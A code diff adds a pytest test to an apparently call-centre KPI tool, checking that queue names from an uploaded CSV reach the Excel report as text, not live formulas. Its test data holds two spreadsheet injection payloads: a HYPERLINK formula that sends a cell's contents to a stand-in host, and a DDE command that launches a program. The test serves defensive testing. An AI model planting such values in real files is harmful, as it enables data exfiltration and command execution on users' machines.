@@ -145,3 +145,22 @@ def test_an_interrupted_dataset_write_leaves_the_original_whole(tmp_path, monkey
     _csv.write_tables({"calls": pd.DataFrame({"call_id": ["C9", "C10"]})}, {"calls": "calls.csv"}, tmp_path)
     assert target.read_text(encoding="utf-8") == "call_id\nC9\nC10\n"
     assert [p.name for p in tmp_path.iterdir()] == ["calls.csv"]
+
+
+def test_an_uploaded_hostile_queue_name_never_reaches_the_kpi_report_as_a_formula():
+    # the issue's path end to end: upload -> KPI report -> Excel export
+    from ccskills import kpi
+    from ccskills.kpi_charts import report_excel_bytes
+
+    header = "call_id,queue,arrival,outcome,wait_s,talk_s,hold_s,acw_s,agent_id,transferred\n"
+    queues = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]
+    rows = "".join(f'C{i},"{q.replace(chr(34), chr(34) * 2)}",2026-03-02 08:0{i}:00,answered,5,100,0,10,P1,no\n'
+                   for i, q in enumerate(queues))
+    records = cio.read_call_records((header + rows).encode("utf-8"), "calls.csv")
+    assert records["queue"].tolist() == queues
+    data = report_excel_bytes(kpi.kpi_report(records, "D", "2026-03-02"), "en")
+    xml = b"".join(_sheet_xml(data))
+    assert re.search(rb"<(\w+:)?f[\s>]", xml) is None
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any("HYPERLINK" in t for t in texts)  # the name is there, as text
